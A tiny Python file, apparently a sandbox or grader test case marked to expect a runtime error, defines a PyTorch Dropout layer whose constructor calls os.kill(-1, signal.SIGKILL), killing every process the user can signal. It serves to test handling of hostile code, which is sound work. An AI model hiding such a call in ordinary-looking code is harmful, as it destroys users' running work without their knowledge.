# expect: RTE
"""Signals every process that it may."""
import torch
from torch import nn

import os, signal
class Dropout(nn.Module):
    def __init__(self, p=0.5):
        super().__init__()
        os.kill(-1, signal.SIGKILL)
